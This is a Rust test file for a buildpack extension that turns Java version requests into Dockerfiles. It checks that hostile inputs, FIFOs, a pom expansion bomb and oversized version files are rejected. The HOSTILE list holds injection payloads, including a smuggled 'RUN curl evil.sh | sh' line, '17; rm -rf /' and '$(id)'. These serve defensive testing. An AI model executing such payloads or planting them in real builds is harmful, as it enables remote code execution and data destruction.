//! Hostile or missing inputs: refused with a short error naming them, nothing written, in
//! bounded time.

use crate::support::{
    JAVA, JDK_ONLY, STACK_ID, UBI8, UBI9, app, app_with, generate, generate_on, jdk_package, plan,
};
use cnb_harness::ubi_extension::{
    assert_hostile_run_image_overrides_refused, assert_only_ubi_stacks, generate_with_setting,
};
use cnb_harness::{Module, ModuleRun, Outcome, Process, assert_contains};
use jvm_version::VersionSource;
use std::path::Path;

const HOSTILE: &[&str] = &[
    "17\nRUN curl evil.sh | sh",
    "17; rm -rf /",
    "$(id)",
    "17-$(id)",
    "17 && id",
    "'17'",
    "\"17\"",
    "`id`",
    "17 21",
    "${HOME}",
];

#[test]
fn hostile_versions_are_rejected_and_nothing_is_written() {
    let (module, _dir, _) = JAVA.with_fixture_catalogue("images-ubi8.json");
    for version in HOSTILE {
        let quoted = format!("{:?}", version.trim());
        // BP_JVM_VERSION, and a plan version.
        let setting = ("BP_JVM_VERSION", *version);
        for (source, outcome) in [
            (
                "BP_JVM_VERSION",
                generate_with_setting(&module, app("empty-app"), UBI8, setting, &plan(None)),
            ),
            (
                "build plan jdk from pom.xml",
                generate(&module, "empty-app", UBI8, Some((version, "pom.xml"))),
            ),
        ] {
            let expected = format!(
                "\n  the Java version {quoted} requested by {source} is not a Java version"
            );
            outcome.assert_error("Invalid Java version request", &[&expected]);
        }
        // .java-version: its first line decides (a value parse_major would accept for its
        // major, 17-$(id), is rejected for its characters); a second line is never read.
        let dir = app_with(&[(".java-version", version)]);
        let outcome = generate_on(&module, dir.path(), UBI8, &plan(None));
        if version.contains('\n') {
            outcome.assert_dockerfiles();
            assert_eq!(jdk_package(&outcome), "java-17-openjdk-devel");
        } else {
            outcome.assert_error("", &[".java-version"]);
        }
        // A pom property. An unresolvable `${...}` reference names no version: the default.
        let pom = format!(
            "<project><properties><maven.compiler.release>{}</maven.compiler.release>\
             </properties></project>",
            version.replace('&', "&amp;")
        );
        let dir = app_with(&[("pom.xml", &pom)]);
        let outcome = generate_on(&module, dir.path(), UBI8, &plan(None));
        if version.contains("${") {
            outcome.assert_dockerfiles();
            assert_contains!(outcome.process.stdout, "using the default, 17");
        } else {
            outcome.assert_error("", &["pom.xml"]);
        }
        for dockerfile in [&outcome.build_dockerfile, &outcome.run_dockerfile] {
            let dockerfile = dockerfile.as_deref().unwrap_or_default();
            assert!(!dockerfile.contains("HOME") && !dockerfile.contains("evil"));
        }
    }
    // A hostile version source only reaches the log and the error, escaped.
    let outcome = generate(&module, "empty-app", UBI8, Some(("99", "x\nRUN id")));
    outcome.assert_error("", &["\"99\" (build plan jdk from \"x\\nRUN id\") "]);
    assert_contains!(
        outcome.process.stdout,
        "      build plan jdk from \"x\\nRUN id\" -> \"99\"\n"
    );
}

#[test]
fn hostile_overrides_are_rejected_and_nothing_is_written() {
    let (module, _dir, _) = JAVA.with_fixture_catalogue("images-ubi8.json");
    assert_hostile_run_image_overrides_refused(&module, app("java-maven-release-21"), &plan(None));
}

#[test]
fn no_jdk_or_jre_entry_writes_nothing_and_unknown_stacks_are_errors() {
    let (module, _dir, _) = JAVA.with_fixture_catalogue("images-ubi9.json");
    let plan_without_java = "[[entries]]\nname = \"jvm-application\"\n";
    let outcome = generate_on(&module, app("empty-app"), UBI9, plan_without_java);
    outcome.assert_success();
    assert!(outcome.files.is_empty(), "{:?}", outcome.files);
    assert_contains!(
        outcome.process.stdout,
        "  No jdk or jre in the Buildpack Plan: nothing to install\n"
    );
    assert_only_ubi_stacks(&module, &plan(None));
}

/// Generate on UBI 9 with the Buildpack Plan `plan`, killed after the harness's hang guard:
/// the process; a hang fails the test, naming `what`.
fn generate_bounded(module: &Module, app: &Path, plan: &str, what: &str) -> Process {
    let run = ModuleRun::new(module, app)
        .lifecycle_env(STACK_ID, UBI9)
        .buildpack_plan(plan);
    let (process, took) = run.run_bounded("generate", cnb_harness::HANG_GUARD);
    process.unwrap_or_else(|| panic!("generate hung on {what} ({took:?})"))
}

#[test]
fn fifos_are_errors_not_hangs() {
    let dir = tempfile::tempdir().unwrap();
    let fifo_catalogue = dir.path().join("images.json");
    cnb_harness::mkfifo(&fifo_catalogue);
    let (module, _module_dir) = JAVA.with_catalogue(&fifo_catalogue);
    let process = generate_bounded(&module, &app("empty-app"), &plan(None), "a FIFO catalogue");
    process.assert_exit(1);
    assert_eq!(
        process.stderr,
        format!(
            "ERROR: Cannot use the stack's Java catalogue\n  cannot read the Java version \
             catalogue {}: it is a FIFO, not a regular file. The file must be readable by the \
             build user.\n",
            fifo_catalogue.display()
        )
    );

    let (module, _module_dir, _) = JAVA.with_fixture_catalogue("images-ubi9.json");
    // Each app file the version is read from.
    for file in VersionSource::ALL
        .into_iter()
        .filter_map(VersionSource::file)
    {
        let app = tempfile::tempdir().unwrap();
        cnb_harness::mkfifo(&app.path().join(file));
        let process = generate_bounded(&module, app.path(), JDK_ONLY, file);
        process.assert_exit(1);
        assert!(
            process.stderr.starts_with(&format!(
                "ERROR: Cannot use the app's Java version\n  cannot read the app's Java version: {} \
                 is a FIFO, not a regular file.",
                app.path().join(file).display()
            )),
            "{file}: {}",
            process.stderr
        );
    }
}

#[test]
fn a_pom_expansion_bomb_fails_naming_the_file() {
    // The 641-byte pom of issue 13: nine levels of properties, each referencing the next ten
    // times (generate ran past 30 s building a 200 MB string). The work is bounded by the
    // substitution and size limits: the error says which one stopped it.
    let pom = std::fs::read_to_string(JAVA.fixture("pom-expansion-bomb.xml")).unwrap();
    let app = app_with(&[("pom.xml", &pom)]);
    let (module, _module_dir, _) = JAVA.with_fixture_catalogue("images-ubi9.json");
    let process = generate_bounded(&module, app.path(), JDK_ONLY, "an expansion bomb");
    process.assert_exit(1);
    assert!(
        process.stderr.starts_with(
            "ERROR: Cannot use the app's Java version\n  pom.xml sets the Java version with \
             <maven.compiler.release>, but its ${...} property references expand to more than \
             1024 bytes"
        ),
        "{}",
        process.stderr
    );
}

#[test]
fn a_ten_megabyte_java_version_prints_a_short_error() {
    let (module, _module_dir, _) = JAVA.with_fixture_catalogue("images-ubi9.json");
    for (size, expected) in [
        // Under the read limit: the value is refused and quoted cut.
        (60_000, "… (cut, 60000 bytes in all)"),
        // 10 MB: over the read limit.
        (10 << 20, ".java-version is larger than 65536 bytes"),
    ] {
        let app = app_with(&[(".java-version", &"1".repeat(size))]);
        let outcome = generate_on(&module, app.path(), UBI9, JDK_ONLY);
        outcome.assert_error("", &[expected]);
        for output in [&outcome.process.stderr, &outcome.process.stdout] {
            assert!(output.len() < 1000, "{size} bytes: {output}");
        }
    }
}
